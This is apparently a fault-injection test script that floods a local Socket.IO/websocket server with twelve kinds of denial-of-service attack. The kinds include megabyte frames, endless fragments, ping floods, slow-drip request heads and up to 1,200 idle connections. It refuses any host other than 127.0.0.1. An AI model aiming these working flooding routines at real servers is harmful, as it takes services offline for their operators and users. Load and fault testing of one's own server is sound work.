"""What a stranger sends to silence a room: `python -m tests.faults.attacks KIND HOST PORT tls|plain`.

Runs until it is killed, and prints a line when it has made its first connections. No attack has a credential; each
comes back when it is cut off. Only ever aimed at a server of this machine.
"""

import contextlib
import itertools
import os
import resource
import socket
import ssl
import sys
import threading
import time
from collections.abc import Callable

SOCKETS = "/socket.io/?EIO=4&transport=websocket"
CONTINUES, TEXT, PING = 0, 1, 9
# As many as the least that any kind holds at once.
FIRST = 10


class Target:
    """Where it is sent."""

    def __init__(self, host: str, port: int, *, tls: bool) -> None:
        if socket.gethostbyname(host) != "127.0.0.1":
            raise ValueError("attacks are for this machine alone")
        self.host, self.port = host, port
        self._context = ssl._create_unverified_context() if tls else None
        self._made = itertools.count(1)

    def connect(self) -> socket.socket:
        """A connection."""
        plain = socket.create_connection(("127.0.0.1", self.port), timeout=20)
        if next(self._made) == FIRST:
            sys.stdout.write("begun\n")
            sys.stdout.flush()
        return self._context.wrap_socket(plain, server_hostname=self.host) if self._context else plain

    def head(self, line: str, *headers: str) -> bytes:
        """The head of a request, with its empty line."""
        return "\r\n".join([line, f"Host: {self.host}:{self.port}", *headers, "", ""]).encode()

    def websocket(self) -> socket.socket:
        """A connection that was upgraded. Raises OSError when it was not."""
        one = self.connect()
        key = "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA=="
        upgrade = ("Connection: Upgrade", "Upgrade: websocket", key, "Sec-WebSocket-Version: 13")
        one.sendall(self.head(f"GET {SOCKETS} HTTP/1.1", *upgrade))
        said = b""
        while b"\r\n\r\n" not in said:
            piece = one.recv(4096)
            if not piece:
                raise OSError("no upgrade")
            said += piece
        if b" 101 " not in said.split(b"\r\n", 1)[0] + b" ":
            one.close()
            raise OSError("no upgrade")
        return one


def frame(opcode: int, payload: bytes, *, final: bool = True) -> bytes:
    """A masked frame; the mask is all zeros but one bit, which the other side must undo all the same."""
    head = bytes([opcode | (0x80 if final else 0)])
    length = len(payload)
    if length < 126:
        head += bytes([0x80 | length])
    elif length < 1 << 16:
        head += bytes([0x80 | 126]) + length.to_bytes(2, "big")
    else:
        head += bytes([0x80 | 127]) + length.to_bytes(8, "big")
    return head + b"\x00\x00\x00\x01" + payload


def again(work: Callable[[], None]) -> None:
    """For ever; whoever is cut off comes back."""
    while True:
        with contextlib.suppress(OSError):
            work()
        time.sleep(0.001)


def many(count: int, work: Callable[[], None]) -> None:
    """``count`` at once, for ever."""
    for _ in range(count):
        threading.Thread(target=again, args=(work,), daemon=True).start()
    threading.Event().wait()


def sending(target: Target, first: bytes, then: bytes) -> None:
    """A websocket on which ``then`` never ends."""
    with contextlib.closing(target.websocket()) as one:
        one.sendall(first)
        while True:
            one.sendall(then)


def held(target: Target, count: int, make: Callable[[], socket.socket]) -> None:
    """``count`` connections that are made and say nothing; what was closed is made again."""
    del target
    open_: list[socket.socket] = []
    while True:
        alive = []
        for one in open_:
            one.setblocking(False)
            try:
                ended = one.recv(4096) == b""
            except (BlockingIOError, ssl.SSLWantReadError):
                ended = False
            except OSError:
                ended = True
            alive.append(one) if not ended else one.close()
        open_ = alive
        for _ in range(count - len(open_)):
            with contextlib.suppress(OSError):
                open_.append(make())
        time.sleep(0.2)


def dripping(target: Target) -> None:
    """Connections whose heads come a byte a second."""

    def drip() -> None:
        with contextlib.closing(target.connect()) as one:
            one.sendall(b"GET /healthz HTTP/1.1\r\n")
            for _ in itertools.count():
                one.sendall(b"X")
                time.sleep(1)

    many(300, drip)


def polled(target: Target) -> None:
    """Sessions by polling, as fast as they come."""

    def poll() -> None:
        with contextlib.closing(target.connect()) as one:
            ask = target.head("GET /socket.io/?EIO=4&transport=polling HTTP/1.1")
            while True:
                one.sendall(ask)
                if not one.recv(65_536):
                    return

    many(10, poll)


def legacy(target: Target) -> None:
    """The websocket of before RFC 6455, whose messages have no length."""

    def say() -> None:
        with contextlib.closing(target.connect()) as one:
            headers = ("Connection: Upgrade", "Upgrade: websocket", "Origin: null", "Sec-WebSocket-Key1: 1 1")
            one.sendall(target.head(f"GET {SOCKETS} HTTP/1.1", *headers, "Sec-WebSocket-Key2: 1 1") + b"12345678\x00")
            while True:
                one.sendall(b"a" * 65_536)

    many(10, say)


def churn(target: Target) -> None:
    """Connections that are opened and closed, as fast as can be."""
    many(10, lambda: target.connect().close())


def run(kind: str, target: Target) -> None:
    """Attack for ever. Raises KeyError for an unknown kind."""
    one_mb, piece = frame(TEXT, b"a" * 1_000_000), frame(CONTINUES, b"a" * 8192, final=False)
    attacks: dict[str, Callable[[], None]] = {
        "large frames": lambda: many(10, lambda: sending(target, b"", one_mb)),
        "endless fragments": lambda: many(10, lambda: sending(target, frame(TEXT, b"4", final=False), piece)),
        "empty fragments": lambda: many(
            10, lambda: sending(target, frame(TEXT, b"4", final=False), frame(CONTINUES, b"", final=False) * 1000)
        ),
        "pings": lambda: many(10, lambda: sending(target, b"", frame(PING, b"") * 1000)),
        "small messages": lambda: many(10, lambda: sending(target, b"", frame(TEXT, b"6") * 1000)),
        "messages that are none": lambda: many(10, lambda: sending(target, b"", frame(TEXT, b"x"))),
        "old websockets": lambda: legacy(target),
        "1,200 idle connections": lambda: held(target, 1200, target.connect),
        "900 idle websockets": lambda: held(target, 900, target.websocket),
        "slow heads": lambda: dripping(target),
        "sessions by polling": lambda: polled(target),
        "connections opened and closed": lambda: churn(target),
    }
    attacks[kind]()


KINDS = (
    "large frames",
    "endless fragments",
    "empty fragments",
    "pings",
    "small messages",
    "messages that are none",
    "old websockets",
    "1,200 idle connections",
    "900 idle websockets",
    "slow heads",
    "sessions by polling",
    "connections opened and closed",
)

if __name__ == "__main__":
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    os.nice(5)
    run(sys.argv[1], Target(sys.argv[2], int(sys.argv[3]), tls=sys.argv[4] == "tls"))
